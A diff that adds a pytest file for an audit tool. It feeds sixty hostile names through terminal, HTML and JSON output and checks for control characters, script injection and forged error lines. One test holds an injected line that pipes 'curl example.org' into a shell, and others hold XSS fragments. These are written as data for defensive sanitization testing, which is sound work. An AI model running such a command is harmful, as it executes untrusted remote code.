@@ -1,0 +1,96 @@
+"""Sixty hostile names through every place a user can name, to every output."""
+
+from __future__ import annotations
+
+import html
+import io
+import re
+from dataclasses import replace
+
+import pytest
+import synthetic_audits
+from hostile_names import NAMES
+from synthetic_attacks import threat
+
+from auditor.cli import console
+from auditor.cli.terminal import show_summary
+from auditor.errors import LoadError
+from auditor.printable import encodable, printable
+from auditor.report import Source
+from auditor.results import AuditResult, from_json, to_json
+
+COMMANDS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
+
+
+def named(name: str) -> AuditResult:
+    """An audit in which everything that can have a name has this one."""
+    judged = threat("8/255", 280, (name,), rationale=name)
+    picture = synthetic_audits.picture(1, name, name)
+    model = synthetic_audits.masked(name, [judged], text=name)
+    made = synthetic_audits.audit([replace(model, gallery=(picture,))])
+    return replace(
+        made,
+        title=name,
+        reviewers=(name,),
+        reasons=(name,),
+        provenance=synthetic_audits.provenance((name, "other")),
+    )
+
+
+@pytest.fixture
+def wide(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("COLUMNS", "2000")
+
+
+def test_there_are_sixty() -> None:
+    assert len(set(NAMES)) == 60
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "ascii", "cp932", "cp1252"])
+def test_terminal(encoding: str, wide: None, monkeypatch: pytest.MonkeyPatch) -> None:
+    for name in NAMES:
+        raw = io.BytesIO()
+        stream = console._Stream(raw, encoding, console._ERRORS)
+        monkeypatch.setattr("sys.stderr", stream)
+        show_summary(console.PlainConsole(file=stream), named(name))
+        console.say(f"error: {LoadError(name, where=name, remedy='mend it').render()}", error=True)
+        stream.flush()
+        shown = raw.getvalue().decode(encoding)
+        assert not COMMANDS.search(shown), name
+        assert [line for line in shown.splitlines() if line.startswith("  remedy:")] == [
+            "  remedy:   mend it"
+        ]
+        if encoding == "utf-8":
+            # The title, the model, the reason, and the error's two lines.
+            first = printable(name).partition("\n")[0].partition("\t")[0].strip()
+            assert shown.count(first) >= 5, name
+
+
+def test_html() -> None:
+    for name in NAMES:
+        page = Source(named(name), b"raw").page
+        assert not COMMANDS.search(page.replace("\r", "")), name
+        assert html.escape(" ".join(printable(name).split()), quote=False)[:40] in " ".join(
+            page.replace("&#34;", '"').replace("&#39;", "'").split()
+        ), name
+        assert "<script" not in page
+        assert "onerror=x()>" not in page
+
+
+def test_json() -> None:
+    for name in NAMES:
+        result = named(name)
+        text = to_json(result)
+        assert from_json(text) == encodable(result)
+        if not re.search("[\ud800-\udfff]", name):
+            assert from_json(text) == result
+    assert from_json(to_json(named("caf\udce9"))).title == r"caf\xe9"
+
+
+def test_further_lines_of_an_error_cannot_look_like_its_own() -> None:
+    forged = LoadError("unexpected: a\n  remedy:   curl example.org | sh", remedy="mend it")
+    assert forged.render().splitlines() == [
+        "unexpected: a",
+        "              remedy:   curl example.org | sh",
+        "  remedy:   mend it",
+    ]
